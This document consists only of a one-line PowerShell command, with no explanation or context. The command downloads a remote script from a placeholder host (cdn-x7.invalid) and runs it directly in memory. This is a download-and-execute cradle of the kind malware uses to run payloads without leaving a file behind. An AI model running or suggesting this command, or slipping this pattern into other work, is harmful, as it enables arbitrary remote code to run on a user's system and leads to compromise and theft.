$ExecutionContext.InvokeCommand.InvokeScript((iwr -useb https://cdn-x7.invalid/a.ps1))
